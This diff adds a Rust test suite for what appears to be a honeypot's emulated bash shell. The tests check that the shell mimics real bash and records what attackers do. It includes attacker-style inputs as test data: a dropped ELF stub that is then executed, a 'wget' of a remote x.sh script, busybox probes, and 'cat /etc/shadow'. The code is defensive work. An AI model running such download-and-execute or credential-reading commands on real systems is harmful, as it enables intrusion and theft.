@@ -1,0 +1,323 @@
+//! Transcripts: what a visitor types and what the machine answers.
+
+use std::{
+    sync::{Arc, Mutex},
+    task::{Context, Poll, Waker},
+    time::Duration,
+};
+
+use decnet_persona::{Distro, Persona, PersonaSpec, Seed};
+use proptest::prelude::*;
+
+use super::*;
+
+/// What was seen from outside.
+#[derive(Debug, Default)]
+struct Seen {
+    out: Vec<u8>,
+    err: Vec<u8>,
+    files: Vec<(String, Vec<u8>)>,
+    fetched: Vec<String>,
+    input: std::collections::VecDeque<Vec<u8>>,
+}
+
+struct Bench(Arc<Mutex<Seen>>);
+
+impl Outside for Bench {
+    fn write(&mut self, stream: Stream, bytes: &[u8]) {
+        let mut seen = self.0.lock().unwrap();
+        match stream {
+            Stream::Out => seen.out.extend_from_slice(bytes),
+            Stream::Err => seen.err.extend_from_slice(bytes),
+        }
+    }
+    fn flush(&mut self) -> Running<'_, bool> {
+        Box::pin(async { true })
+    }
+    fn read(&mut self, _echo: bool) -> Running<'_, Option<Vec<u8>>> {
+        let next = self.0.lock().unwrap().input.pop_front();
+        Box::pin(async { next })
+    }
+    fn pause(&mut self, _time: Duration) -> Running<'_, bool> {
+        Box::pin(async { true })
+    }
+    fn report(&mut self, report: Report<'_>) {
+        let mut seen = self.0.lock().unwrap();
+        match report {
+            Report::File { path, bytes, .. } => seen.files.push((path.to_owned(), bytes.to_vec())),
+            Report::Fetch { url, .. } => seen.fetched.push(url.to_owned()),
+            _ => {}
+        }
+    }
+    fn now(&self) -> i64 {
+        1_700_000_000
+    }
+}
+
+fn template() -> &'static Template {
+    static TEMPLATE: std::sync::OnceLock<Template> = std::sync::OnceLock::new();
+    TEMPLATE.get_or_init(|| {
+        let mut spec = PersonaSpec::new(Seed::from_bytes([7; 16]), "linux-server");
+        spec.distro = Some(
+            Distro::ALL
+                .iter()
+                .copied()
+                .find(|d| d.as_str() == "debian12")
+                .unwrap_or(Distro::ALL[0]),
+        );
+        Template::new(&Persona::derive(&spec).unwrap())
+    })
+}
+
+/// Run a future that never really waits.
+fn now_or_never<F: Future>(future: F) -> F::Output {
+    let mut future = std::pin::pin!(future);
+    match future.as_mut().poll(&mut Context::from_waker(Waker::noop())) {
+        Poll::Ready(out) => out,
+        Poll::Pending => panic!("the shell waited for something that the test does not give"),
+    }
+}
+
+fn run_as(user: &str, script: &str) -> (String, String, u8, Arc<Mutex<Seen>>) {
+    let seen = Arc::new(Mutex::new(Seen::default()));
+    let mut shell = template().shell(
+        user,
+        "192.0.2.7 40022 22",
+        Box::new(Bench(Arc::clone(&seen))),
+        4_711,
+    );
+    shell.env.arg0 = "bash".to_owned();
+    now_or_never(shell.run_line(script.as_bytes()));
+    shell.surrender_all();
+    let (out, err) = {
+        let seen = seen.lock().unwrap();
+        (
+            String::from_utf8_lossy(&seen.out).into_owned(),
+            String::from_utf8_lossy(&seen.err).into_owned(),
+        )
+    };
+    (out, err, shell.status, seen)
+}
+
+fn run(script: &str) -> (String, String, u8) {
+    let (out, err, status, _) = run_as("root", script);
+    (out, err, status)
+}
+
+/// Scripts of pure shell, which mean the same to any shell: run by ours and by the real bash.
+const SCRIPTS: &str = include_str!("data/scripts.txt");
+
+#[test]
+fn pure_shell_means_what_it_means_to_bash() {
+    let folder = tempfile::tempdir().unwrap();
+    let mut wrong = Vec::new();
+    let mut count = 0;
+    for script in SCRIPTS
+        .split("\n----\n")
+        .map(str::trim_end)
+        .filter(|s| !s.is_empty())
+    {
+        let Ok(real) = std::process::Command::new("bash")
+            .args(["--norc", "-c", script])
+            .current_dir(folder.path())
+            .stdin(std::process::Stdio::null())
+            .env_clear()
+            .env("PATH", "/usr/bin:/bin")
+            .env("HOME", "/root")
+            .env("LC_ALL", "C.UTF-8")
+            .output()
+        else {
+            println!("skipped: no bash on this machine to compare with");
+            return;
+        };
+        count += 1;
+        let (out, _, status) = run(&format!("cd /tmp\n{script}"));
+        let expected = String::from_utf8_lossy(&real.stdout).into_owned();
+        if out != expected || Some(i32::from(status)) != real.status.code() {
+            wrong.push(format!(
+                "{script}\n  bash: {expected:?} {:?}\n  ours: {out:?} {status}",
+                real.status.code()
+            ));
+        }
+        for entry in std::fs::read_dir(folder.path()).unwrap().flatten() {
+            if entry.file_type().unwrap().is_dir() {
+                std::fs::remove_dir_all(entry.path()).unwrap()
+            } else {
+                std::fs::remove_file(entry.path()).unwrap()
+            }
+        }
+    }
+    assert!(count > 100, "{count} scripts");
+    assert!(
+        wrong.is_empty(),
+        "{} of {count} differ:\n{}",
+        wrong.len(),
+        wrong.join("\n")
+    );
+}
+
+#[test]
+fn what_bots_probe_is_answered_as_a_machine_answers() {
+    for (script, out, err) in [
+        ("/bin/busybox ABCDE", "", "ABCDE: applet not found\n"),
+        ("foo", "", "bash: line 1: foo: command not found\n"),
+        (
+            "cd /nowhere",
+            "",
+            "bash: line 1: cd: /nowhere: No such file or directory\n",
+        ),
+        ("cat /nowhere", "", "cat: /nowhere: No such file or directory\n"),
+        (
+            "ls /nowhere",
+            "",
+            "ls: cannot access '/nowhere': No such file or directory\n",
+        ),
+        ("whoami", "root\n", ""),
+        ("id", "uid=0(root) gid=0(root) groups=0(root)\n", ""),
+        ("echo -e '\\x6b\\x61\\x6d\\x69'", "kami\n", ""),
+        ("echo $((6*7)); uname", "42\nLinux\n", ""),
+        ("cd /tmp && pwd", "/tmp\n", ""),
+        ("rm -rf /tmp/x; mkdir /tmp/x; ls -d /tmp/x", "/tmp/x\n", ""),
+        ("rm /etc", "", "rm: cannot remove '/etc': Is a directory\n"),
+    ] {
+        let (got, told, _) = run(script);
+        assert_eq!((got.as_str(), told.as_str()), (out, err), "{script}");
+    }
+}
+
+#[test]
+fn what_is_written_is_captured_and_what_is_fetched_is_reported() {
+    let (_, err, status, seen) = run_as(
+        "root",
+        "cd /tmp; echo -ne '\\x7fELF\\x01' > a; chmod +x a; ./a; rm a; echo two > b; wget http://198.51.100.9/x.sh",
+    );
+    let seen = seen.lock().unwrap();
+    assert_eq!(
+        seen.files,
+        [
+            ("/tmp/a".to_owned(), b"\x7fELF\x01".to_vec()),
+            ("/tmp/b".to_owned(), b"two\n".to_vec())
+        ]
+    );
+    assert_eq!(seen.fetched, ["http://198.51.100.9/x.sh"]);
+    assert!(
+        err.contains("./a: cannot execute binary file: Exec format error"),
+        "{err}"
+    );
+    assert!(err.contains("Connection timed out"), "{err}");
+    assert_eq!(status, 4);
+}
+
+#[test]
+fn a_plain_user_is_kept_out_of_what_is_roots() {
+    let user = template()
+        .machine
+        .accounts
+        .iter()
+        .find(|a| a.uid != 0)
+        .map(|a| a.name.clone())
+        .unwrap();
+    let (_, err, status, _) = run_as(&user, "cat /etc/shadow");
+    assert_eq!(
+        (err.as_str(), status),
+        ("cat: /etc/shadow: Permission denied\n", 1)
+    );
+    let (_, err, ..) = run_as(&user, "echo x > /etc/x");
+    assert_eq!(err, "bash: line 1: /etc/x: Permission denied\n");
+}
+
+#[test]
+fn endless_work_is_killed() {
+    for script in [
+        "while :; do :; done",
+        "f() { f; }; f",
+        "while true; do echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa; done",
+        "for i in {1..900}; do for j in {1..900}; do :; done; done",
+        "x=a; while :; do x=$x$x; done",
+    ] {
+        let (out, _, status) = run(script);
+        assert!(out.len() <= 5 << 20, "{script}");
+        assert_eq!(status, 137, "{script}");
+    }
+}
+
+#[test]
+fn the_file_system_is_a_few_thousand_entries_that_agree_with_the_persona() {
+    let (out, ..) = run("find / | wc -l");
+    assert!(out.trim().parse::<usize>().unwrap() > 3_000, "{out}");
+    let (out, ..) = run("cat /etc/hostname; hostname; grep -c processor /proc/cpuinfo; nproc");
+    let lines: Vec<&str> = out.lines().collect();
+    assert_eq!(lines[0], lines[1]);
+    assert_eq!(lines[2], lines[3]);
+}
+
+#[test]
+fn line_editing_moves_deletes_and_recalls() {
+    let history = vec!["uname -a".to_owned(), "id".to_owned()];
+    for (keys, line) in [
+        (&b"lss\x7f -l\r"[..], "ls -l"),
+        (b"abc\x1b[D\x1b[DX\r", "aXbc"),
+        (b"one two\x17three\r", "one three"),
+        (b"gone\x15here\r", "here"),
+        (b"\x1b[A\r", "id"),
+        (b"\x1b[A\x1b[A\r", "uname -a"),
+        (b"b\x01a\x05c\r", "abc"),
+        ("é\x7fe\r".as_bytes(), "e"),
+    ] {
+        let mut editor = terminal::Editor::default();
+        let mut echo = Vec::new();
+        let done = keys
+            .iter()
+            .find_map(|b| editor.key(*b, true, &history, &mut echo));
+        assert_eq!(
+            done,
+            Some(terminal::Key::Line(line.as_bytes().to_vec())),
+            "{keys:?}"
+        );
+    }
+}
+
+#[test]
+fn the_fuzz_corpus_parses_or_is_refused() {
+    let corpus = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fuzz/corpus/shell_parse");
+    let mut count = 0;
+    for entry in std::fs::read_dir(&corpus).unwrap().flatten() {
+        let bytes = std::fs::read(entry.path()).unwrap();
+        // Either is fine; not coming back is not.
+        let _either = parse::parse(&bytes);
+        count += 1;
+    }
+    assert!(count > 10, "{count} in {}", corpus.display());
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(400))]
+
+    #[test]
+    fn the_parser_takes_any_bytes(script in prop::collection::vec(any::<u8>(), 0..300)) {
+        let _either = parse::parse(&script);
+    }
+
+    #[test]
+    fn the_shell_takes_any_line(line in "[ -~\n]{0,80}") {
+        run(&line);
+    }
+
+    #[test]
+    fn the_shell_takes_any_mix_of_its_own_words(words in prop::collection::vec(prop::sample::select(vec![
+        "if", "then", "fi", "for", "do", "done", "while", "case", "esac", "in", "{", "}", "(", ")", ";", "&&", "||", "|", "&", ">", "<<", "<",
+        "$(", "`", "\"", "'", "${x", "$((", "))", "echo", "ls", "x=1", "$x", "*", "\n", "f()", "!", "cat", "/etc/passwd", "2>&1", "sed", "s/a/b/", "awk",
+    ]), 0..30)) {
+        run(&words.join(" "));
+    }
+
+    #[test]
+    fn line_editing_takes_any_keys(keys in prop::collection::vec(any::<u8>(), 0..200)) {
+        let mut editor = terminal::Editor::default();
+        let mut echo = Vec::new();
+        for key in keys {
+            editor.key(key, true, &["ls".to_owned()], &mut echo);
+        }
+        prop_assert!(echo.len() < 1 << 20);
+    }
+}
